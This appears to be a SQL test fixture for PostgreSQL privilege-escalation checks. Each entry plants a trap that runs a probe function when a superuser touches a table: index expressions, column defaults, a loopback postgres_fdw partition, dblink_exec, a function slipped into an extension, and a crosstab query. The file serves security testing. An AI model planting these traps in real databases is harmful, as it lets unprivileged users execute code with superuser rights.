-- What needs an extension that not every server ships: the newest version that has postgres_fdw and dblink.
-- SOCKET_FOLDER stands for where the server listens, which mallory knows as everybody who connects does.

-- plant: partition that is a foreign table of a loopback server
-- fires: select count(*) from public.d01
-- extensions: postgres_fdw
CREATE TABLE d01_far (id int, hub_id int, v int);
INSERT INTO d01_far VALUES (1, 1, 1);
CREATE INDEX ON d01_far ((v + evil.imm('partition that is a foreign table of a loopback server')));
DO $$ BEGIN EXECUTE format('CREATE SERVER loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, dbname %L)',
    'SOCKET_FOLDER', current_database()); END $$;
CREATE USER MAPPING FOR PUBLIC SERVER loopback OPTIONS (user 'postgres');
CREATE TABLE d01 (id int, hub_id int, v int) PARTITION BY RANGE (id);
CREATE FOREIGN TABLE d01_rest PARTITION OF d01 DEFAULT SERVER loopback OPTIONS (schema_name 'public', table_name 'd01_far');
CREATE TABLE d01_child (id int PRIMARY KEY, d01_id int);

-- plant: dblink in a default
-- fires: insert into public.d02 values (9, default)
-- extensions: dblink
CREATE TABLE d02 (id int PRIMARY KEY, hub_id int REFERENCES hub ON DELETE SET DEFAULT);
INSERT INTO d02 VALUES (1, 1), (2, 2);
DO $$ BEGIN EXECUTE format('ALTER TABLE d02 ALTER hub_id SET DEFAULT length(public.dblink_exec(%L, %L))',
    format('host=%s user=postgres dbname=%s', 'SOCKET_FOLDER', current_database()),
    'do $x$ begin perform evil.probe(''dblink in a default''); end $x$'); END $$;

-- plant: function added to an extension that a superuser's functions are in
-- fires: select count(*) from public.d03
-- extensions: citext
CREATE FUNCTION public.citext_extra(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM evil.probe('function added to an extension that a superuser''s functions are in'); RETURN 1; END $$;
ALTER EXTENSION citext ADD FUNCTION public.citext_extra(int);
CREATE TABLE d03 (id int PRIMARY KEY, hub_id int REFERENCES hub ON DELETE SET NULL, v int);
INSERT INTO d03 VALUES (1, 1, 1);
CREATE INDEX ON d03 ((v + public.citext_extra(1)));

-- plant: text query of a superuser's immutable-looking function
-- fires: select * from public.crosstab('select evil.probe($x$text query of a superuser''s immutable-looking function$x$), 1::text, 1::text') as (a text, b text)
-- extensions: tablefunc
CREATE FUNCTION evil.crossed() RETURNS int LANGUAGE sql IMMUTABLE AS
    $$ SELECT count(*)::int FROM public.crosstab('select evil.probe($x$text query of a superuser''s immutable-looking function$x$), 1::text, 1::text') AS (a text, b text) $$;
CREATE TABLE d04 (id int PRIMARY KEY, hub_id int REFERENCES hub ON DELETE SET NULL, v int);
INSERT INTO d04 VALUES (1, 1, 1);
CREATE INDEX ON d04 ((v + evil.crossed()));
